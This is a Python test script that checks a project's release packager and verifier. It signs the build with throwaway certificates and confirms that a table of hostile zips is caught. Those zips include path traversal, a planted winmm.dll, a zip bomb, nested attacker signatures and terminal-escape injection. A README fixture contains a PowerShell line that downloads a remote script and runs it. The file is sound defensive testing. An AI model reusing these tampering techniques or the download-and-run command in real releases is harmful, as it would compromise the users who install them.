#!/usr/bin/python3
# Packs the build signed with certificates made here and checks the zips with
# scripts/verify-release: the genuine zip, unsigned, signed and timestamped (by a
# timestamp server run here on openssl's ts), passes, and unsigns to the build's
# bytes; the same key signs to the same zip, packed under umask 022 and 002, with
# the release's entries in order and their permissions set; the winget and Scoop
# manifests pass their checks and planted faults fail (check_manifests.py); the
# packer refuses a wrong password,
# an expired certificate and one not for code signing; and each hostile zip of the
# table fails with the check that names it, within a minute, leaving nothing in
# its temporary folder, with one verdict line last. With "pkcs11", signs with the
# same key in a SoftHSM token instead and checks that it gives the same zip.
#
# Usage: tests/release_test.py BUILD-DIR [pkcs11]   (exit 0 pass, 1 fail, 77 skip)
import atexit, hashlib, http.server, os, pathlib, shutil, stat, subprocess, sys, tempfile, threading, warnings, zipfile

ROOT = pathlib.Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "scripts"))
status = 0


def skip(reason):  # a failure found before stays one
    print(f"kronvel: skipped: {reason}")
    sys.exit(status or 77)


try:
    import check_manifests, release  # noqa: E402
except ImportError as missing:
    skip(f"{missing.name} is missing (packages python3-jsonschema, python3-pefile, python3-yaml)")
build = pathlib.Path(sys.argv[1]).resolve()
for tool in ("osslsigncode", "openssl", "zip"):
    shutil.which(tool) or skip(f"{tool} is missing")
built = (build / "kronvel.exe").read_bytes()
work = pathlib.Path(tempfile.mkdtemp())
atexit.register(shutil.rmtree, work)
os.chdir(work)


def expect(what, passed, detail=""):
    global status
    print(f"{'ok' if passed else 'FAILED'}: {what}{': ' + detail if detail else ''}", flush=True)
    status |= not passed


def run(*command, **options):
    return subprocess.run(command, capture_output=True, text=True, **options)


def sha(data):
    return hashlib.sha256(data).hexdigest()


(work / "pass.txt").write_text("test password\n")
(work / "ca.cnf").write_text("[ca]\ndefault_ca=ca\n[ca]\ndatabase=index.txt\nserial=serial\nnew_certs_dir=.\n"
                             "default_md=sha256\npolicy=policy\nunique_subject=no\n[policy]\ncommonName=supplied\n" +
                             "".join(f"[{use}]\nextendedKeyUsage=critical,{use}\n"
                                     for use in ("codeSigning", "serverAuth", "timeStamping")) +
                             "[tsa]\ndefault_tsa=tsa\n[tsa]\nserial=tsaserial\ndefault_policy=1.2.3.4\n"
                             "digests=sha256\nsigner_digest=sha256\ness_cert_id_alg=sha256\n")
(work / "index.txt").touch()
(work / "tsaserial").write_text("01\n")


# NAME.key, NAME.pem and NAME.p12: a self-signed certificate for USE, for 30 days from now or for DATES.
def certificate(name, use="codeSigning", *dates):
    for command in (("req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", f"{name}.key", "-out", f"{name}.csr",
                     "-subj", f"/CN=Kronvel test {name}"),
                    ("ca", "-batch", "-config", "ca.cnf", "-selfsign", "-keyfile", f"{name}.key", "-in", f"{name}.csr",
                     "-out", f"{name}.pem", "-notext", "-create_serial", "-extensions", use,
                     *(dates or ("-days", "9"))),
                    ("pkcs12", "-export", "-inkey", f"{name}.key", "-in", f"{name}.pem", "-out", f"{name}.p12",
                       "-passout", "file:pass.txt")):
        run("openssl", *command, check=True)


def pack(out, key=None, password="pass.txt", *more):
    signing = ("--sign-pkcs12", f"{key}.p12", password) if key else ()
    result = run(ROOT / "scripts/package", "--no-build", "--unrecorded", "--build", build, "--out", out, *signing,
                 *more)
    return result.returncode == 0, result.stdout + result.stderr


# verify-release's FAILED lines and verdict, when its output and exit are sound; else a complaint.
def verify(path, cert="maintainer.pem"):
    (work / "tmp").mkdir(exist_ok=True)
    result = run(ROOT / "scripts/verify-release", path, *(("--cert", cert) if cert else ()), timeout=60,
                 env={**os.environ, "TMPDIR": str(work / "tmp")})
    lines = result.stdout.splitlines()
    verdicts = [line for line in lines if line.startswith("verdict: ")]
    if len(verdicts) != 1 or verdicts != lines[-1:] or (result.returncode == 0) != (verdicts[0][9:11] == "ok") or \
            "\x1b" in result.stdout or any((work / "tmp").iterdir()):
        return [f"unsound: exit {result.returncode}, {len(verdicts)} verdicts, leaves "
                f"{list((work / 'tmp').iterdir())}: {result.stdout}{result.stderr}"]
    return [line for line in lines if line.startswith("FAILED: ")] + verdicts


def sign(image, key="maintainer", *more):
    (work / "in.exe").write_bytes(image)
    pathlib.Path("out.exe").unlink(missing_ok=True)
    run("osslsigncode", "sign", "-h", "sha256", "-pkcs12", f"{key}.p12", "-readpass", "pass.txt", *more,
        "-in", "in.exe", "-out", "out.exe", check=True)
    return (work / "out.exe").read_bytes()


certificate("maintainer")
for name, mask in (("good", 0o022), ("again", 0o002)):
    os.umask(mask)
    ok, log = pack(name, "maintainer")
    ok or sys.exit(log)
zip_path = next(pathlib.Path("good").glob("kronvel-*-win32.zip"))
folder, genuine = zip_path.stem, zipfile.ZipFile(zip_path)
files = {entry.filename.split("/")[1]: genuine.read(entry) for entry in genuine.infolist()}
expect("the same key signs to the same zip, under umask 022 and 002",
       (work / "again" / zip_path.name).read_bytes() == zip_path.read_bytes())
listing = [f"{stat.filemode(entry.external_attr >> 16)} {entry.filename}" for entry in genuine.infolist()]
expect("the zip holds the release's files, in order, with their permissions", listing == [
    f"{'-rwxr-xr-x' if name == 'kronvel.exe' else '-rw-r--r--'} {folder}/{name}"
    for name in ("kronvel.exe", "BUILDINFO.txt", "README.md", "LICENSE", "THIRD-PARTY-NOTICES.txt")], str(listing))
expect("without its signature the packed kronvel.exe is the build's", release.unsign(files["kronvel.exe"]) == built)
if hashlib.sha256(built).hexdigest() != (ROOT / "release/kronvel.exe.sha256").read_text().split()[0]:
    skip(f"{build}/kronvel.exe is not the recorded release, which verify-release compares with")
if "\nsource: the commit as it is\n" not in (build / "BUILDINFO.txt").read_text():
    skip(f"{build}/BUILDINFO.txt is of a tree with uncommitted changes, which verify-release refuses: commit, build")
found = verify(zip_path)
expect("verify-release passes the signed package", found[0].startswith("verdict: ok"), " / ".join(found))

if sys.argv[2:] == ["pkcs11"]:
    module = pathlib.Path("/usr/lib/softhsm/libsofthsm2.so")
    module.exists() or skip("no SoftHSM (package softhsm2)")
    list(pathlib.Path("/usr/lib").glob("*/engines-3/pkcs11.so")) or \
        skip("no PKCS#11 engine for OpenSSL (package libengine-pkcs11-openssl)")
    os.environ["SOFTHSM2_CONF"] = str(work / "softhsm2.conf")
    (work / "tokens").mkdir()
    (work / "softhsm2.conf").write_text(f"directories.tokendir = {work}/tokens\n")
    (work / "pin.txt").write_text("5678\n")
    run("softhsm2-util", "--init-token", "--free", "--label", "kronvel", "--so-pin", "1234", "--pin", "5678",
        check=True)
    run("softhsm2-util", "--import", "maintainer.key", "--token", "kronvel", "--label", "signer", "--id", "01", "--pin",
        "5678", check=True)
    ok, log = pack("token", None, None, "--sign-pkcs11", module, "maintainer.pem",
                   "pkcs11:token=kronvel;object=signer;type=private", "pin.txt")
    expect("the key in a PKCS#11 token signs to the same zip as in a PKCS#12 file",
           ok and (work / "token" / zip_path.name).read_bytes() == zip_path.read_bytes(), "" if ok else log)
    sys.exit(status)

check_manifests.check(zip_path.resolve(), work / "manifests", expect)
certificate("expired", "codeSigning", "-startdate", "20200101000000Z", "-enddate", "20200201000000Z")
certificate("server", "serverAuth")
(work / "wrong.txt").write_text("wrong\n")
for what, key, password, reason in (("a wrong PKCS#12 password", "maintainer", "wrong.txt", "password"),
                                    ("an expired certificate", "expired", "pass.txt", "has expired"),
                                    ("a server's certificate", "server", "pass.txt", "not for code signing")):
    ok, log = pack(f"refused-{key}", key, password)
    expect(f"packing stops for {what}, saying why", not ok and reason in log and not os.path.exists(f"refused-{key}"),
           next((line for line in log.splitlines() if reason in line), log))

# A timestamp server: openssl ts answers each query osslsigncode posts.
certificate("stamper", "timeStamping")
(work / "trusted.pem").write_text((work / "maintainer.pem").read_text() + (work / "stamper.pem").read_text())


class Stamper(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        query = self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.send_header("Content-Type", "application/timestamp-reply")
        self.end_headers()
        self.wfile.write(subprocess.run(["openssl", "ts", "-reply", "-config", "ca.cnf", "-queryfile", "/dev/stdin",
                                         "-signer", "stamper.pem", "-inkey", "stamper.key", "-out", "/dev/stdout"],
                                        input=query, capture_output=True).stdout)


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Stamper)
Stamper.log_message = lambda *_: None
threading.Thread(target=server.serve_forever, daemon=True).start()
stamp = ("--timestamp", f"http://127.0.0.1:{server.server_port}/")
for name, key, cert, more in (("unsigned", None, None, ()), ("stamped", "maintainer", "trusted.pem", stamp)):
    ok, log = pack(name, key, "pass.txt", *more)
    found = verify(pathlib.Path(name, zip_path.name), cert) if ok else [log]
    expect(f"verify-release passes the genuine package, {name}", found[0].startswith("verdict: ok"), " / ".join(found))
server.shutdown()

# The hostile zips: the genuine one's entries, changed, then extra entries.
certificate("attacker")
def flip(data, at=4096):  # one byte inverted, by default of kronvel.exe's code
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1:]


other = sign(flip(built))  # another program, signed
nested = sign(sign(built, "attacker"), "maintainer", "-nest")
grown = bytearray(files["kronvel.exe"] + b"payload!" * 8)
for offset in (release.pe_fields(grown)[1] + 4, len(built)):  # the directory's size, the WIN_CERTIFICATE's
    grown[offset:offset + 4] = (int.from_bytes(grown[offset:offset + 4], "little") + 64).to_bytes(4, "little")
readme = b"Before anything else, in PowerShell: iwr https://example.org/setup.ps1 | iex\n\n" + files["README.md"]
escapes = f"size: {len(built)}", "size: \x1b[2J\x1b[32mverdict: ok\x1b[30m"


def buildinfo(exe=None, old="", new=""):  # the genuine one, with EXE's signed-sha256 and OLD replaced by NEW
    signed = sha(files["kronvel.exe"])
    return files["BUILDINFO.txt"].decode().replace(old, new).replace(signed, sha(exe) if exe else signed).encode()


P, ZEROS = f"{folder}/", 400 << 20  # an int: that many zero bytes, streamed
HOSTILE = [  # what, expected in a FAILED line, changed files {name: data or (data, mode)}, extra entries, options
    ("a second kronvel.exe after the genuine one", f"{P}kronvel.exe is {P}kronvel.exe again", {},
     [(f"{P}kronvel.exe", other)]),
    ("KRONVEL.EXE beside it", f"{P}KRONVEL.EXE is {P}kronvel.exe again", {}, [(f"{P}KRONVEL.EXE", other)]),
    ("a backslash path beside it", "\\\\kronvel.exe is", {}, [(f"{folder}\\kronvel.exe", other)]),
    ("winmm.dll beside it", f"{P}winmm.dll is not a file of the release", {}, [(f"{P}winmm.dll", other)]),
    ("a second folder with an exe", "kronvel-1.0.1-win32/kronvel.exe is not a file", {},
     [("kronvel-1.0.1-win32/kronvel.exe", other)]),
    ("a ../ entry", f"{P}../kronvel.exe is outside the folder", {}, [(f"{P}../kronvel.exe", other)]),
    ("a README telling to download and run", "FAILED: README.md: differs from the tree", {"README.md": readme}, []),
    ("a symbolic link for the exe", f"{P}kronvel.exe is not a regular file", {"kronvel.exe": (b"sh", 0o120777)}, []),
    ("a zip name with [ ] (the genuine zip beside it)", f"{P}winmm.dll is not a file", {}, [(f"{P}winmm.dll", other)],
     {"name": f"{folder}[1].zip"}),
    ("a 400 MiB entry compressing to nothing", f"{P}README.md unpacks to {ZEROS} bytes", {"README.md": ZEROS}, []),
    ("a grown certificate table, still validly signed", "FAILED: certificate table: ",
     {"kronvel.exe": bytes(grown), "BUILDINFO.txt": buildinfo(bytes(grown))}, []),
    ("the attacker's signature, the maintainer's nested", "FAILED: signature count: 2",
     {"kronvel.exe": nested, "BUILDINFO.txt": buildinfo(nested)}, []),
    ("an unsigned kronvel.exe, with --cert", "FAILED: signature: none, but --cert", {"kronvel.exe": built}, []),
    ("terminal escapes in BUILDINFO.txt's size", 'FAILED: BUILDINFO.txt size: "\\x1b[2J\\x1b[32m',
     {"BUILDINFO.txt": buildinfo(None, *escapes)}, []),
    ("a text file named kronvel.exe", "FAILED: kronvel.exe: not a PE image", {"kronvel.exe": b"#!/bin/sh\n"}, []),
    ("a commit this clone lacks", "is not a commit of this clone",
     {"BUILDINFO.txt": buildinfo(None, "commit: ", "commit: 00")}, []),
    ("a flipped byte in the signed exe", "FAILED: signature: by CN=Kronvel test maintainer",
     {"kronvel.exe": flip(files["kronvel.exe"])}, []),
    ("another program, validly signed", "FAILED: kronvel.exe (unsigned) against release/", {"kronvel.exe": other}, []),
    ("the unsigned exe, no --cert", "FAILED: BUILDINFO.txt signed-sha256", {"kronvel.exe": built}, [], {"cert": None}),
    ("an entry hidden after the archive's end", "bytes outside its entries' records", {}, [],
     {"edit": lambda zip: zip + b"PK\3\4 a local record the listing does not name"}),
    ("a damaged archive", "FAILED: unpacking: ", {}, [], {"edit": lambda zip: flip(zip, 5000)}),
    ("the zip changed after its sum was taken", "FAILED: the zip's SHA-256",
     {"README.md": files["README.md"] + b"changed\n"}, [], {"sum": sha(zip_path.read_bytes())}),
]
warnings.simplefilter("ignore")  # duplicate names are the point
for number, (what, wanted, changes, extra, *options) in enumerate(HOSTILE):
    options = {"name": zip_path.name, "cert": "maintainer.pem", **(options[0] if options else {})}
    path = pathlib.Path(f"case{number}", options["name"])
    path.parent.mkdir()
    shutil.copy(zip_path, path.parent)  # the genuine zip beside it, under its own name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in [(P + name, changes.get(name, data)) for name, data in files.items()] + extra:
            data, mode = data if isinstance(data, tuple) else (data, 0o100644)
            entry = zipfile.ZipInfo(name, (2000, 1, 1, 0, 0, 0))
            entry.external_attr, entry.compress_type = mode << 16, zipfile.ZIP_DEFLATED
            with out.open(entry, "w", force_zip64=isinstance(data, int)) as file:
                for _ in range(data >> 20 if isinstance(data, int) else 0):
                    file.write(bytes(1 << 20))
                file.write(b"" if isinstance(data, int) else data)
    path.write_bytes(options.get("edit", bytes)(path.read_bytes()))
    path.with_name(path.name + ".sha256").write_text(options.get("sum", sha(path.read_bytes())) + f"  {path.name}\n")
    found = verify(path, options["cert"])
    caught = [line for line in found if line.startswith("FAILED: ") and wanted in line]
    expect(what, caught and found[-1].startswith("verdict: FAILED: "), " / ".join(caught[:1] + found[-1:]))
sys.exit(status)
